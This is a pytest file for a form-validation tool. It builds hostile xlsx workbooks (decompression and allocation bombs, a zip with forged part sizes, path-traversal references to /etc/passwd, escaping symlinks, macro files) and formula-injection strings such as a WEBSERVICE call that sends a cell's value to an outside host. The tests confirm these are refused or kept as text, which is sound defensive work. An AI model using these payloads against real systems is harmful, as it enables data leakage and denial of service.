"""A form's insides are checked before they are believed (issue 20, item 2).

The small hostile forms are in tests/fixtures/hostile/ (``make_forms.py`` rebuilds them); the big
ones are built here. Forms that once made python-calamine allocate hundreds of gigabytes are read
in a child process whose address space is limited, so a regression fails the test instead of the
machine.
"""

from __future__ import annotations

import io
import os
import re
import shutil
import subprocess
import sys
import time
import zipfile
from pathlib import Path

import pytest
from openpyxl import load_workbook

from tests.conftest import ROOT
from tests.office import convert

HOSTILE = ROOT / "tests" / "fixtures" / "hostile"
NOTES_SECRET = "hunter2-do-not-print"
FORMULA = re.compile(rb"<(?:\w+:)?f[\s/>]")  # a cell's formula (not <formula1> of data validation)


def run_limited(*args: str, memory: int = 1 << 31, timeout: float = 60) -> subprocess.CompletedProcess:
    """``python -m parcli ARGS`` with at most ``memory`` bytes of address space."""
    if sys.platform == "win32":
        pytest.skip("address-space limits are POSIX")
    import resource

    def limit():
        resource.setrlimit(resource.RLIMIT_AS, (memory, memory))

    env = {**os.environ, "PARCLI_LANG": "en"}
    return subprocess.run([sys.executable, "-m", "parcli", *args], capture_output=True, text=True, env=env,
                          preexec_fn=limit, timeout=timeout, cwd=str(ROOT))


@pytest.mark.parametrize("name, message", [
    ("form-far-cell.xlsx", "form-far-cell.xlsx:Tự đánh giá: the sheet spans 1,048,576 rows × 16,384 columns, more "
                           "than parcli reads (4,000,000 cells); it is refused unread (a cell as far as XFD1048576"),
    ("form-far-cell-in-instructions.xlsx", "form-far-cell-in-instructions.xlsx:Hướng dẫn: the sheet spans 1,048,576 "
                                           "rows × 16,384 columns"),
])
def test_a_far_cell_is_refused_before_calamine_builds_its_grid(name, message):
    path = HOSTILE / name
    assert path.stat().st_size < 25_000
    start = time.perf_counter()
    proc = run_limited("validate", str(path))
    assert proc.returncode == 1, proc.stderr
    assert message in proc.stdout and "memory allocation" not in proc.stderr
    assert time.perf_counter() - start < 30


def test_shared_string_counts_are_not_believed():
    """count and uniqueCount of 4294967295: calamine would reserve 100 GB for them; refused from the XML."""
    path = HOSTILE / "form-shared-string-counts.xlsx"
    with zipfile.ZipFile(path) as z:
        assert b'uniqueCount="4294967295"' in z.read("xl/sharedStrings.xml")
    proc = run_limited("score", str(path), "-f", "json")
    assert proc.returncode == 1, proc.stdout + proc.stderr
    assert "its shared strings declare more strings than they hold" in proc.stderr
    assert "memory allocation" not in proc.stderr


def test_a_cell_with_200000_formulas_is_read_in_linear_time(cli, tmp_path):
    with zipfile.ZipFile(HOSTILE / "form-far-cell.xlsx") as z:
        parts = {i.filename: z.read(i) for i in z.infolist()}
    sheet = parts["xl/worksheets/sheet1.xml"]
    sheet = re.sub(rb'<row r="1048576">.*?</row>', b"", sheet)  # the far cell away: only the formulas stay
    sheet = re.sub(rb'<c r="K8"[^>]*?(?:/>|>.*?</c>)', lambda m: b'<c r="K8">' + b"<f/>" * 200_000 + b"</c>", sheet,
                   count=1)
    parts["xl/worksheets/sheet1.xml"] = sheet
    big = tmp_path / "formulas.xlsx"
    with zipfile.ZipFile(big, "w", zipfile.ZIP_DEFLATED) as z:
        for name, data in parts.items():
            z.writestr(name, data)
    shutil.copy(HOSTILE / "form-mini.yaml", tmp_path / "form-mini.yaml")
    start = time.perf_counter()
    run = cli("validate", big)
    assert time.perf_counter() - start < 10
    assert run.exit_code == 1
    assert f"{big}:Tự đánh giá!K8: a formula without a saved value" in run.stdout


def test_the_hidden_sheets_values_are_errors_at_their_cells(cli):
    run = cli("validate", HOSTILE / "form-hidden-values.xlsx")
    assert run.exit_code == 1
    at = f"{HOSTILE / 'form-hidden-values.xlsx'}:parcli!"
    out = run.stdout
    for cell, what in (("C20", "the number nan"), ("C21", "the number inf"), ("C22", "the text 'BB'"),
                       ("C23", "the number 0"), ("C24", "the boolean true"), ("C25", "the number 7.5")):
        assert re.search(rf"{re.escape(at)}{cell}: the hidden sheet's row of [0-9.]+ is {re.escape(what)}, not a "
                         "whole number from 1 to 1,048,576", out), (cell, out)
    assert f"{at}B26: the hidden sheet holds the text '2.1.1\\u200b' where an id belongs" in out
    assert f"{at}B9: the hidden sheet's unit is the text 'A-2', not a cell reference such as B2" in out
    assert f"{at}B13: the hidden sheet's column_done is the text 'E-1', not a column letter such as E" in out
    assert "Traceback" not in run.all


def test_the_hidden_sheets_id_row_lines_are_errors_at_their_cell(cli):
    """The same damage in the "id row" lines parcli writes now: each line said at its cell."""
    run = cli("validate", HOSTILE / "form-hidden-rows.xlsx")
    assert run.exit_code == 1
    at = f"{HOSTILE / 'form-hidden-rows.xlsx'}:parcli!B20: "
    out = run.stdout
    for ident, what in (("1.1", "'nan'"), ("1.1.1", "'inf'"), ("1.1.2", "'BB'"), ("1.1.3", "'0'"), ("1.2", "'TRUE'"),
                        ("1.2.1", "'7.5'"), ("2", "'1048577'")):
        assert f"{at}the hidden sheet's row of {ident} is the text {what}, not a whole number" in out, ident
    assert f"{at}the hidden sheet holds the text '2.1.1\\u200b' where an id belongs" in out
    assert f"{at}the hidden sheet holds the text '-2' where an id belongs" in out


@pytest.mark.parametrize("name, ref", [("form-framework-absolute.xlsx", "/etc/passwd"),
                                       ("form-framework-escape.xlsx", "../hostile/form-mini.yaml"),
                                       ("form-framework-windows.xlsx", "C:\\\\Users\\\\Public\\\\form-mini.yaml")])
def test_a_form_names_its_framework_by_a_shipped_id_or_a_file_beside_it(cli, name, ref):
    run = cli("validate", HOSTILE / name)
    assert run.exit_code == 1
    assert (f"{HOSTILE / name}:parcli!B2: the form names its framework '{ref}'; a form names a shipped framework "
            "(parcli frameworks) or a framework file beside the form, by its name alone") in run.stdout
    assert "root:" not in run.all


def test_a_file_beside_the_form_that_is_not_a_framework_is_never_quoted(cli):
    run = cli("validate", HOSTILE / "form-framework-not-parcli.xlsx")
    assert run.exit_code == 1
    assert "'notes.yaml' is not a parcli framework file; put the form's framework beside it" in run.stdout
    assert NOTES_SECRET not in run.all and "database_password" not in run.all


def test_a_link_beside_the_form_to_a_file_elsewhere_is_refused(cli, tmp_path):
    if sys.platform == "win32":
        pytest.skip("symbolic links need privileges on Windows")
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    shutil.copy(HOSTILE / "form-mini.yaml", elsewhere / "form-mini.yaml")
    folder = tmp_path / "forms"
    folder.mkdir()
    shutil.copy(HOSTILE / "form-libreoffice.xlsx", folder / "f.xlsx")
    (folder / "form-mini.yaml").symlink_to(elsewhere / "form-mini.yaml")
    run = cli("validate", folder / "f.xlsx")
    assert run.exit_code == 1 and "parcli!B2: the form names its framework 'form-mini.yaml'" in run.stdout
    (folder / "form-mini.yaml").unlink()
    shutil.copy(elsewhere / "form-mini.yaml", folder / "form-mini.yaml")  # the file itself beside it: read
    assert cli("validate", folder / "f.xlsx").exit_code == 0


@pytest.mark.parametrize("name, message", [
    ("form-duplicate-part.xlsx", "not a readable .xlsx workbook (two parts of the zip have one name "
                                 "('xl/worksheets/sheet1.xml'))"),
    ("form-duplicate-part-case.xlsx", "not a readable .xlsx workbook (two parts of the zip have one name "
                                      "('XL/Worksheets/Sheet1.xml'))"),
    ("form-vba-by-content-type.xlsx", "the workbook holds macros"),
    ("form-macro-enabled.xlsx", "the workbook holds macros"),
])
def test_duplicate_parts_and_macros_by_content_type_are_refused(cli, name, message):
    run = cli("validate", HOSTILE / name)
    assert run.exit_code == 1 and f"{HOSTILE / name}: {message}" in run.stdout


def test_text_is_written_as_text_never_as_a_formula(cli, tmp_path, write):
    """Framework titles, option titles, a unit's name, note and documents that start with = + - @ stay text,
    also after LibreOffice re-saves the form."""
    shutil.copy(HOSTILE / "fw-formula-titles.yaml", tmp_path / "fw.yaml")
    unit = write("u.yaml", """
        schema: parcli/unit/v1
        unit: '=WEBSERVICE("http://example.org/"&B3)'
        code: "=1+1"
        year: 2024
        framework: fw.yaml
        evidence:
          "1.1.1": {value: true, note: "=HYPERLINK(\\"http://x\\")", documents: ["=1+2", "@A1"]}
          "1.1.2": b
        """)
    forms = []
    for lang in ("vi", "en"):
        form = tmp_path / f"form-{lang}.xlsx"
        assert cli("convert", unit, "-o", form, "--lang", lang).exit_code == 0
        forms.append(form)
        with zipfile.ZipFile(form) as z:
            for name in z.namelist():
                if name.startswith("xl/worksheets/"):
                    assert not FORMULA.search(z.read(name)), name
        wb = load_workbook(form)
        ws = wb.worksheets[0]
        assert ws["B2"].data_type == "s" and ws["B2"].value.startswith("=WEBSERVICE")
        assert ws["A1"].data_type == "s"
    resaved = dict(zip(forms, convert(forms, "xlsx", tmp_path / "lo"), strict=True))
    for form in forms:
        with zipfile.ZipFile(resaved[form]) as z:
            for name in z.namelist():
                if name.startswith("xl/worksheets/"):
                    assert not FORMULA.search(z.read(name)), (form.name, name)
        shutil.copy(resaved[form], tmp_path / f"lo-{form.name}")
        run = cli("score", tmp_path / f"lo-{form.name}", "-f", "json")
        assert run.exit_code == 0, run.all
        assert '"unit": "=WEBSERVICE(\\"http://example.org/\\"&B3)"' in run.stdout
    lists = load_workbook(forms[1])["parcli_lists"]
    assert [c.value for c in lists["A"]] == ["=2+2", "plain, with a comma"]
    assert lists["A1"].data_type == "s"


def test_every_hostile_form_fixture_is_covered():
    tested = Path(__file__).read_text(encoding="utf-8")
    for path in HOSTILE.glob("form-*.xlsx"):
        assert path.name in tested, path.name


def test_workbook_parts_are_inflated_only_as_needed(cli, tmp_path):
    """A part the reader never needs is never inflated: a 64 MB printer-settings blob in a small file is
    refused by its declared size at once, and an undeclared one is never read."""
    with zipfile.ZipFile(HOSTILE / "form-libreoffice.xlsx") as z:
        parts = {i.filename: z.read(i) for i in z.infolist()}
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as out:
        for name, data in parts.items():
            out.writestr(name, data)
        out.writestr("xl/printerSettings/printerSettings1.bin", b"\0" * (64 << 20))
    bomb = tmp_path / "f.xlsx"
    bomb.write_bytes(buf.getvalue())
    shutil.copy(HOSTILE / "form-mini.yaml", tmp_path / "form-mini.yaml")
    start = time.perf_counter()
    run = cli("validate", bomb)
    assert run.exit_code == 1 and "inflates to more than the size limit" in run.stdout
    assert time.perf_counter() - start < 5


def test_the_sound_form_the_hostile_ones_are_made_from_reads(cli):
    run = cli("score", HOSTILE / "form-libreoffice.xlsx", "-f", "json")
    assert run.exit_code == 0, run.all


def test_a_form_with_the_hidden_rows_of_parcli_0_1_still_reads(cli):
    """Forms made before the "id row" lines: one hidden row per id, read and checked the same."""
    run = cli("score", HOSTILE / "form-legacy-rows.xlsx", "-f", "json")
    assert run.exit_code == 0, run.all
    assert '"unit": "Đơn vị A"' in run.stdout


def test_a_part_that_says_it_is_small_but_is_not_is_refused_unread(cli, tmp_path, monkeypatch):
    """The central directory says 100 bytes; the part inflates to 30 MB: inflating stops at the limit."""
    import struct

    with zipfile.ZipFile(HOSTILE / "form-libreoffice.xlsx") as z:
        parts = {i.filename: z.read(i) for i in z.infolist()}
    parts["xl/styles.xml"] = b" " * (30 << 20)
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as out:
        for name, data in parts.items():
            out.writestr(name, data)
    data = bytearray(buf.getvalue())
    at = 0
    while True:  # every central-directory record of xl/styles.xml: its uncompressed size says 100
        at = data.find(b"PK\x01\x02", at)
        if at < 0:
            break
        name_len = struct.unpack_from("<H", data, at + 28)[0]
        if data[at + 46:at + 46 + name_len] == b"xl/styles.xml":
            struct.pack_into("<I", data, at + 24, 100)
        at += 46
    liar = tmp_path / "f.xlsx"
    liar.write_bytes(bytes(data))
    with zipfile.ZipFile(liar) as z:
        assert z.getinfo("xl/styles.xml").file_size == 100  # the lie is in place
    shutil.copy(HOSTILE / "form-mini.yaml", tmp_path / "form-mini.yaml")
    monkeypatch.setenv("PARCLI_MAX_BYTES", str(1 << 20))
    start = time.perf_counter()
    run = cli("validate", liar)
    assert run.exit_code == 1 and "inflates to more than the size limit" in run.stdout, run.all
    assert time.perf_counter() - start < 5


def test_a_hidden_sheet_without_its_framework_is_said_so(cli, tmp_path):
    wb = load_workbook(HOSTILE / "form-libreoffice.xlsx")
    meta = wb["parcli"]
    for r in range(1, meta.max_row + 1):
        if meta.cell(row=r, column=1).value in ("framework", "sheet"):
            meta.cell(row=r, column=1).value = None
    wb.save(tmp_path / "f.xlsx")
    run = cli("validate", tmp_path / "f.xlsx")
    assert run.exit_code == 1
    for key in ("framework", "sheet"):
        assert f"f.xlsx:parcli: the hidden sheet's {key} is an empty cell, not text" in run.stdout
